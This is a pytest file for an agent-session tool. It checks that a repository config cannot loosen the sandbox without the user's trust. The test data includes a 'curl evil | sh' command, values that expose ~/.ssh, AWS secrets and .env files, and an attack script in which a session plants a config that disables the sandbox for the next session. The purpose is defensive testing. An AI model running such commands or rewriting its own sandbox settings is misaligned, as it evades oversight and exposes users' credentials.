"""A repository's `.workbench.toml` may only tighten the sandbox unless the user trusted it.

Issue 12, item 4: a session can write the repo's config (in place, or once merged); the
next session must not get a looser sandbox from it.
"""

from __future__ import annotations

import json
import os
import stat
import subprocess
import sys
import typing
from pathlib import Path

import pytest

from tests.conftest import git, make_repo
from tests.helpers import wait_for
from workbench import config, doctor, paths
from workbench.core import repo_policy, sandbox_probe, trust
from workbench.errors import ConfigError

if typing.TYPE_CHECKING:
    from tests.wb import Wb

# Each key a repo file may not loosen on its own, with a value that loosens the defaults.
LOOSENING = {
    "session.agent": '"sh -c \'curl evil | sh\'"',
    "session.sandbox": '"off"',
    "session.network": "true",
    "session.approval": '"full-auto"',
    "session.provider": '"elsewhere"',
    "sandbox.env_allowlist": '["PATH", "AWS_SECRET_ACCESS_KEY"]',
    "sandbox.hidden_paths": "[]",
    "sandbox.hide_dotenv": "false",
    "sandbox.extra_ro_binds": '["~/.ssh"]',
    "sandbox.extra_rw_binds": '["~"]',
    "sandbox.host_ports": "[22]",
    "worktree.copy_files": '[".env", ".env.local", ".env.production"]',
    "worktree.in_place": "true",
    "sandbox.tmp_size_mb": "0",
    "sandbox.max_processes": "100000",
}


def _toml(key: str, value: str) -> str:
    section, name = key.split(".")
    return f"# repo settings\n[{section}]\n{name} = {value}\n"


@pytest.fixture
def repo_dir(tmp_path: Path) -> Path:
    d = tmp_path / "repo"
    d.mkdir()
    return d


def test_every_repo_key_has_a_rule() -> None:
    """The rule table is explicit: each key a repo section has is listed (unlisted = needs trust)."""
    for section in config.REPO_SECTIONS:
        model = type(getattr(config.Config(), section))
        for name in model.model_fields:
            assert f"{section}.{name}" in repo_policy.RULES, f"no repo rule for {section}.{name}"
    assert set(LOOSENING) == {k for k, r in repo_policy.RULES.items() if r.kind in ("tighten", "trust")}
    assert repo_policy.rule_for("session.something_new").kind == "trust"


@pytest.mark.parametrize("key", sorted(LOOSENING))
def test_loosening_key_refused_until_trusted_and_again_after_a_change(repo_dir: Path, key: str) -> None:
    f = repo_dir / ".workbench.toml"
    f.write_text(_toml(key, LOOSENING[key]))
    with pytest.raises(config.UntrustedRepoConfig) as e:
        config.load(repo_dir)
    msg = str(e.value)
    assert key in msg and str(f) in msg and f"workbench trust {repo_dir}" in msg and "line 3" in msg
    assert "not trusted" in msg

    trust.trust(repo_dir)
    cfg = config.load(repo_dir)
    section, name = key.split(".")
    assert getattr(getattr(cfg, section), name) != getattr(getattr(config.Config(), section), name)

    f.write_text(f.read_text() + "# one more line\n")
    with pytest.raises(config.UntrustedRepoConfig) as e:
        config.load(repo_dir)
    assert "changed since you trusted it" in str(e.value) and key in str(e.value)


def test_tightening_applies_without_trust(repo_dir: Path, tmp_path: Path) -> None:
    user = tmp_path / "user.toml"
    user.write_text('[session]\napproval = "full-auto"\nnetwork = true\nsandbox = "off"\n'
                    '[sandbox]\nextra_ro_binds = ["/opt/tools", "/srv/data"]\nhide_dotenv = false\n')
    (repo_dir / ".workbench.toml").write_text(
        '[session]\nsandbox = "strict"\nnetwork = false\napproval = "suggest"\ncols = 90\n'
        '[sandbox]\nhidden_paths = ["~/.ssh", "~/.aws", "~/.config/gcloud", "~/.gnupg", "~/.netrc", "~/.docker",'
        ' "~/.kube", "~/.azure", "~/.password-store", "~/work/secrets"]\n'
        'env_allowlist = ["PATH", "TERM"]\nhide_dotenv = true\nextra_ro_binds = ["/opt/tools"]\n'
        'extra_rw_binds = []\n'
        '[worktree]\ncopy_files = []\nin_place = false\nmerge_strategy = "rebase"\n'
        '[check]\ntimeout_s = 5\n[agent]\nmax_turns = 3\n'
    )
    cfg = config.load(repo_dir, path=user)
    assert cfg.session.sandbox == "strict" and cfg.session.network is False and cfg.session.approval == "suggest"
    assert "~/work/secrets" in cfg.sandbox.hidden_paths and cfg.sandbox.env_allowlist == ["PATH", "TERM"]
    assert cfg.sandbox.extra_ro_binds == ["/opt/tools"] and cfg.sandbox.hide_dotenv is True
    assert cfg.worktree.copy_files == [] and cfg.worktree.merge_strategy == "rebase"
    assert (cfg.session.cols, cfg.check.timeout_s, cfg.agent.max_turns) == (90, 5, 3)
    assert not trust.load_records()  # nothing needed trusting


def test_a_repo_may_repeat_the_users_own_loose_values(repo_dir: Path, tmp_path: Path) -> None:
    user = tmp_path / "user.toml"
    user.write_text('[session]\nsandbox = "off"\nagent = "claude"\n')
    (repo_dir / ".workbench.toml").write_text('[session]\nsandbox = "off"\nagent = "claude"\n')
    cfg = config.load(repo_dir, path=user)
    assert (cfg.session.sandbox, cfg.session.agent) == ("off", "claude")
    # ... but not looser than the user: workspace for a user who chose strict
    user.write_text('[session]\nsandbox = "strict"\n')
    (repo_dir / ".workbench.toml").write_text('[session]\nsandbox = "workspace"\n')
    with pytest.raises(config.UntrustedRepoConfig, match=r"session\.sandbox"):
        config.load(repo_dir, path=user)


def test_check_and_setup_commands_run_only_in_a_sandbox_unless_trusted(repo_dir: Path) -> None:
    (repo_dir / ".workbench.toml").write_text('[check]\ncommand = "pytest -q"\n[worktree]\nsetup = "make"\n')
    cfg = config.load(repo_dir)
    assert cfg.check.command == "pytest -q"
    cfg.require_sandboxed("check.command", "workspace")
    cfg.require_sandboxed("worktree.setup", "strict")
    for key in ("check.command", "worktree.setup"):
        with pytest.raises(ConfigError) as e:
            cfg.require_sandboxed(key, "off")
        assert key in str(e.value) and f"workbench trust {repo_dir}" in str(e.value)
    trust.trust(repo_dir)
    config.load(repo_dir).require_sandboxed("check.command", "off")


def test_symlinked_repo_file_is_refused_without_a_traceback(repo_dir: Path, tmp_path: Path) -> None:
    target = tmp_path / "elsewhere.toml"
    target.write_text('[session]\ncols = 80\n')
    (repo_dir / ".workbench.toml").symlink_to(target)
    with pytest.raises(ConfigError, match="symbolic link"):
        config.load(repo_dir)


def test_trust_store_is_private_atomic_and_keyed_by_real_path(repo_dir: Path, tmp_path: Path) -> None:
    (repo_dir / ".workbench.toml").write_text('[session]\nnetwork = true\n')
    link = tmp_path / "link"
    link.symlink_to(repo_dir)
    rec = trust.trust(link)
    assert rec.repo == str(repo_dir.resolve())
    store = paths.config_dir() / "trust.json"
    assert stat.S_IMODE(store.stat().st_mode) == 0o600
    body = json.loads(store.read_text())
    assert body["repos"][str(repo_dir.resolve())]["sha256"] == trust.digest((repo_dir / ".workbench.toml").read_bytes())
    assert [p.name for p in store.parent.iterdir() if p.name.startswith(".trust-")] == []
    assert config.load(repo_dir).session.network is True
    assert trust.revoke(repo_dir) and not trust.revoke(repo_dir)
    with pytest.raises(config.UntrustedRepoConfig):
        config.load(repo_dir)


def test_doctor_shows_the_trust_state(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "r")
    assert doctor.check_repo_trust(str(repo)).detail.endswith("no .workbench.toml")
    (repo / ".workbench.toml").write_text('[session]\nsandbox = "strict"\n')
    chk = doctor.check_repo_trust(str(repo))
    assert chk.status == "ok" and "only tightens" in chk.detail
    (repo / ".workbench.toml").write_text('[session]\nsandbox = "off"\n')
    chk = doctor.check_repo_trust(str(repo))
    assert chk.status == "fail" and "untrusted" in chk.detail and "session.sandbox" in chk.detail
    assert f"workbench trust {repo.resolve()}" in chk.fix
    trust.trust(repo)
    chk = doctor.check_repo_trust(str(repo))
    assert chk.status == "ok" and "trusted" in chk.detail
    (repo / ".workbench.toml").write_text('[session]\nsandbox = "off"\nnetwork = true\n')
    chk = doctor.check_repo_trust(str(repo))
    assert chk.status == "fail" and "changed since you trusted it" in chk.detail and "session.network" in chk.detail


def _cli(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "workbench", *args], capture_output=True, text=True,
                          cwd=cwd, env=dict(os.environ), timeout=60, stdin=subprocess.DEVNULL)


def test_trust_cli_trust_list_revoke(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "r")
    (repo / "sub").mkdir()
    res = _cli("trust", cwd=repo / "sub")
    assert res.returncode == 2 and "nothing to trust" in res.stderr and "Traceback" not in res.stderr
    (repo / ".workbench.toml").write_text('[sandbox]\nextra_rw_binds = ["~/.cache/pip"]\n')
    res = _cli("trust", cwd=repo / "sub")  # the repo's top, from a subdirectory
    assert res.returncode == 0, res.stderr
    assert f"trusted {repo.resolve()}/.workbench.toml" in res.stdout and "sandbox.extra_rw_binds" in res.stdout
    assert "trusted" in _cli("trust", "--list").stdout
    (repo / ".workbench.toml").write_text('[sandbox]\nextra_rw_binds = ["~"]\n')
    assert _cli("trust", "--list").stdout.startswith("changed")
    res = _cli("trust", "--revoke", str(repo))
    assert res.returncode == 0 and "revoked" in res.stdout
    assert _cli("trust", "--list").stdout.strip() == "no trusted repositories"
    (repo / ".workbench.toml").write_text("[session\n")
    res = _cli("trust", str(repo))
    assert res.returncode == 2 and "invalid TOML" in res.stderr and not trust.load_records()


def test_new_session_refused_with_a_clear_error(wb: Wb, repo: Path) -> None:
    (repo / ".workbench.toml").write_text('[sandbox]\nhidden_paths = []\n')
    res = wb.run("new", "--repo", str(repo), "--sandbox", "off", check=False)
    assert res.returncode == 2 and "Traceback" not in res.stderr
    err = res.stderr
    assert err.startswith("error: ") and "sandbox.hidden_paths" in err and "drops ~/.ssh" in err
    assert str(repo.resolve() / ".workbench.toml") in err and f"workbench trust {repo.resolve()}" in err
    assert wb.json("ls") == []
    wb.run("trust", str(repo))
    sid = wb.new(repo, "--sandbox", "off", "--agent", "sleep 1000")
    wb.wait_state(sid, "running")


def test_untrusted_check_command_does_not_run_outside_a_sandbox(wb: Wb, repo: Path, tmp_path: Path) -> None:
    marker = tmp_path / "ran-on-host"
    (repo / ".workbench.toml").write_text(f'[check]\ncommand = "touch {marker}"\n')
    sid = wb.new(repo, "--sandbox", "off", "--agent", "sleep 1000")
    wb.wait_state(sid, "running")
    res = wb.run("check", sid, check=False)
    assert res.returncode == 2 and "check.command" in res.stderr and "workbench trust" in res.stderr
    assert not marker.exists()
    wb.run("trust", str(repo))
    assert wb.run("check", sid).returncode == 0 and marker.exists()


@pytest.mark.skipif(not sandbox_probe.probe().ok, reason="needs bubblewrap")
def test_attack_session_writes_repo_config_next_session_is_not_unsandboxed(wb: Wb, tmp_path: Path) -> None:
    """An in-place session (strict sandbox, main checkout writable) plants a loosening
    `.workbench.toml`. The next session is refused, never started without a sandbox;
    a tightening file keeps working and keeps the sessions sandboxed."""
    attack = ("cat > .workbench.toml <<'EOF'\n[session]\nsandbox = \"off\"\nnetwork = true\n"
              "[sandbox]\nhidden_paths = []\nEOF\nexec sleep 1000\n")
    repo = make_repo(tmp_path / "victim", {"README.md": "x\n", "attack.sh": attack})
    sid = wb.new(repo, "--in-place", "--agent", "sh attack.sh", "--name", "attacker")
    f = repo / ".workbench.toml"
    wait_for(lambda: f.exists() and "off" in f.read_text(), 20, what="the planted .workbench.toml")
    # It ran, in its sandbox; what attention made of its quiet screen since does not matter here.
    s = wb.session(sid)
    assert s["state"] in ("running", "waiting", "review") and s["sandbox"] == "strict", s
    res = wb.run("new", "--repo", str(repo), "--agent", "sleep 1000", "--name", "next", check=False)
    assert res.returncode == 2 and "session.sandbox" in res.stderr and "workbench trust" in res.stderr
    assert [s["sandbox"] for s in wb.json("ls")] == ["strict"]  # only the attacker; nothing unsandboxed
    # The loosened settings never reach a sandbox either: restarting the attacker is refused too.
    res = wb.run("restart", sid, check=False)
    assert res.returncode == 2 and "session.sandbox" in res.stderr
    wb.run("rm", sid)
    # A file that only tightens applies without trust, and the next session is sandboxed.
    f.write_text('[session]\nsandbox = "strict"\n')
    git(repo, "status")  # the checkout is still a healthy repository
    sid2 = wb.new(repo, "--agent", "sleep 1000", "--name", "next")
    s = wb.wait_state(sid2, "running", timeout=20)
    assert s["sandbox"] == "strict"


def test_untrusted_setup_command_does_not_run_outside_a_sandbox(wb: Wb, repo: Path, tmp_path: Path) -> None:
    marker = tmp_path / "setup-ran-on-host"
    (repo / ".workbench.toml").write_text(f'[worktree]\nsetup = "touch {marker}"\n')
    sid = wb.new(repo, "--sandbox", "off", "--agent", "sleep 1000")
    s = wb.wait_state(sid, "error")
    assert "worktree.setup" in s["reason"] and "workbench trust" in s["reason"] and not marker.exists()
